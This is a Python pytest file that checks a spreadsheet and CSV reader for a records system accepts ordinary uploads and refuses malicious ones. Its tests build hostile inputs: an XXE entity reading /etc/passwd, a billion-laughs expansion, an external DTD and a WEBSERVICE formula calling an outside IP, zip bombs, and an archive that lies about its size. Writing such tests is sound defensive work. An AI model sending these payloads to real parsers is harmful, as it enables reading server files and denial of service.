"""Files that strangers send in: read as tables, or refused in a sentence before they can do harm."""

import datetime as dt
import io
import time
import tracemalloc
import zipfile

import pytest
from openpyxl import Workbook

from rms.documents import tables
from rms.domain.errors import Invalid

SHEET = (
    '<?xml version="1.0" encoding="UTF-8"?>{before}<worksheet'
    ' xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>{rows}</sheetData></worksheet>'
)


def workbook(*rows) -> bytes:
    book = Workbook()
    for row in rows:
        book.active.append(row)
    kept = io.BytesIO()
    book.save(kept)
    return kept.getvalue()


def with_sheet(sheet: bytes, content: bytes | None = None) -> bytes:
    """A right workbook whose sheet is exchanged for these bytes."""
    kept = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(content or workbook(["x"]))) as before,
        zipfile.ZipFile(kept, "w", zipfile.ZIP_DEFLATED) as after,
    ):
        for name in before.namelist():
            after.writestr(name, sheet if name == "xl/worksheets/sheet1.xml" else before.read(name))
    return kept.getvalue()


def refusal(content: bytes) -> str:
    with pytest.raises(Invalid) as refused:
        tables.read(content)
    assert refused.value.field == "file"
    return str(refused.value)


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "cp1252"])
@pytest.mark.parametrize("delimiter", ["\t", ";", "|", ","])
def test_text_is_split_whatever_its_encoding_and_delimiter(encoding, delimiter):
    rows = [["Date", "Narration", "Deposit"], ["20/11/2026", "Café Lotus", "500.00"]]
    text = "\r\n".join(delimiter.join(row) for row in rows)
    assert tables.read(text.encode(encoding))[:2] == rows


def test_quoted_cells_keep_their_commas_and_an_open_quote_is_a_character():
    assert tables.of_text('a,b,c\n1,"2,00,000.00",x') == [["a", "b", "c"], ["1", "2,00,000.00", "x"]]
    assert tables.of_text('a,b,c\n1,"open,x')[1] == ["1", "open", "x"]


def test_cells_of_a_spreadsheet_come_out_as_text():
    content = workbook(
        ["Date", "Amount", "Words"],
        [dt.datetime.fromisoformat("2026-11-20T10:22:00"), 180960.0, "पाँच"],
        [dt.date(2026, 11, 21), 3750.2999999999997, True],
        [None, 0.1, 12],
    )
    assert tables.read(content)[1:] == [
        ["2026-11-20", "180960", "पाँच"],
        ["2026-11-21", "3750.3", "True"],
        ["", "0.1", "12"],
    ]


def test_large_amounts_keep_their_paise():
    assert tables.read(workbook(["x"], [123456789.55]))[1] == ["123456789.55"]


def test_row_37_formulas_are_not_worked_out():
    rows = '<row r="1"><c r="A1"><f>WEBSERVICE("http://198.51.100.7/")</f><v>42</v></c>'
    rows += '<c r="B1"><f>1+1</f></c></row>'
    assert tables.read(with_sheet(SHEET.format(before="", rows=rows).encode())) == [["42", ""]]


def test_row_37_a_zip_bomb_is_refused_before_it_is_parsed(monkeypatch):
    monkeypatch.setattr(tables, "load_workbook", lambda *a, **k: pytest.fail("was parsed"))
    content = with_sheet(b"0" * 300_000_000)
    assert len(content) < 310_000
    began = time.monotonic()
    tracemalloc.start()
    try:
        assert "far more" in refusal(content)
        assert tracemalloc.get_traced_memory()[1] < 16 * 1024 * 1024
    finally:
        tracemalloc.stop()
    assert time.monotonic() - began < 2


def test_row_37_an_archive_that_lies_about_its_size_is_refused_all_the_same():
    content = bytearray(with_sheet(b"0" * 80_000_000))
    size = (80_000_000).to_bytes(4, "little")
    assert bytes(content).count(size) == 2
    content = bytes(content).replace(size, (1000).to_bytes(4, "little"))
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert sum(entry.file_size for entry in archive.infolist()) < tables.MOST_UNPACKED
    assert refusal(content)


def test_row_37_thousands_of_entries_are_refused():
    kept = io.BytesIO(workbook(["x"]))
    with zipfile.ZipFile(kept, "a") as archive:
        for number in range(2001):
            archive.writestr(f"xl/{number}", b"")
    assert "far more" in refusal(kept.getvalue())


EXTERNAL = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
LAUGHS = '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'


@pytest.mark.parametrize("before", [EXTERNAL, LAUGHS, '<!DOCTYPE x SYSTEM "http://198.51.100.7/x.dtd">'])
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_row_37_entities_are_refused(before, encoding):
    rows = '<row r="1"><c r="A1" t="inlineStr"><is><t>&e;</t></is></c></row>'
    sheet = SHEET.format(before=before, rows=rows).replace("UTF-8", encoding).encode(encoding)
    assert "outside of it" in refusal(with_sheet(sheet))


def test_row_37_entities_would_not_pass_the_parser_either(monkeypatch):
    monkeypatch.setattr(tables, "_refuse_document_type", lambda piece: None)
    rows = '<row r="1"><c r="A1" t="inlineStr"><is><t>&e;</t></is></c></row>'
    assert refusal(with_sheet(SHEET.format(before=EXTERNAL, rows=rows).encode()))


def test_row_37_a_document_type_across_two_pieces_is_seen():
    sheet = SHEET.format(before=" " * (tables.MEBIBYTE - 45) + EXTERNAL, rows="").encode()
    assert "outside of it" in refusal(with_sheet(sheet))


def test_row_37_fifty_thousand_rows_are_refused_in_a_sentence():
    text = "Date,Narration,Deposit\n" + "20/11/2026,x,5\n" * 50_000
    assert "10,000 rows" in refusal(text.encode())
    rows = "".join('<row><c t="n"><v>1</v></c></row>' for _ in range(50_000))
    assert "10,000 rows" in refusal(with_sheet(SHEET.format(before="", rows=rows).encode()))


def test_ten_thousand_rows_are_read():
    assert len(tables.read(b"a,b,c\n" * 10_000)) == 10_000


def test_row_37_a_row_of_sixteen_thousand_columns_is_refused():
    assert "100 columns" in refusal(("x," * 16_000).encode())
    wide = '<row r="1"><c r="XFD1"><v>1</v></c></row>'
    assert "100 columns" in refusal(with_sheet(SHEET.format(before="", rows=wide).encode()))


@pytest.mark.parametrize(
    ("content", "told"),
    [
        (b"", "empty"),
        (b" \n ", "empty"),
        (b"x" * (5 * 1024 * 1024 + 1), "5 MB"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 old", "old Excel"),
        (b"%PDF-1.7", "PDF"),
        (b"PK\x03\x04 half of one", "ends sooner"),
        (b"a\x00b\x01\x02", "neither"),
        (workbook(), "empty"),
    ],
)
def test_what_is_no_table_is_refused_in_a_sentence(content, told):
    assert told in refusal(content)


def test_an_archive_that_is_no_workbook_is_refused():
    kept = io.BytesIO()
    with zipfile.ZipFile(kept, "w") as archive:
        archive.writestr("readme.txt", "x")
    assert "neither" in refusal(kept.getvalue())


def test_a_workbook_with_broken_xml_is_refused():
    assert "damaged" in refusal(with_sheet(b"<worksheet><sheetData><row><c"))


def test_a_workbook_cut_anywhere_is_refused_and_never_breaks():
    content = workbook(["Date", "Narration", "Deposit"], ["20/11/2026", "x", 5])
    for end in range(0, len(content), 97):
        with pytest.raises(Invalid):
            tables.read(content[:end])


def test_row_37_one_long_text_in_every_cell_is_refused():
    strings = '<c t="inlineStr"><is><t>' + "a" * 2000 + "</t></is></c>"
    rows = ("<row>" + strings * 20 + "</row>") * 300
    assert "far more text" in refusal(with_sheet(SHEET.format(before="", rows=rows).encode()))
